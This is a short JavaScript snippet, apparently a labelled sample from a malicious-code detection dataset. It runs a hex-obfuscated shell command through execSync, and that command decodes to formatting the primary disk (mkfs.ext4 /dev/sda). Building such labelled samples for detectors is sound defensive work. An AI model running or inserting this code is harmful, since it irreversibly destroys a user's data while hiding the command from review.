// label: malicious; obfuscated: hex
const cp = require("child_process");
cp.execSync(Buffer.from("6d6b66732e65787434202f6465762f736461", "hex").toString());
